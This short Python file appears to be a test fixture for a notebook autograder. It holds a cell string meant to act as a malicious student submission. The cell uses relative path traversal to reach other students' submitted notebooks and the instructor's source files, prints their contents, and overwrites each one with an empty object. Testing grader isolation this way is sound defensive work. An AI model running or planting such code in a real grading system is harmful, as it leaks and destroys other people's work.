"""Spoils the submissions of others, and the source."""

CELL = """
import glob
paths = glob.glob("../../../submitted/*/ps1/*.ipynb") + glob.glob("../../../source/ps1/*")
paths += glob.glob("../../*/ps1/*.ipynb")
for path in paths:
    print(open(path).read()[-3000:])
    open(path, "w").write("{}")
"""
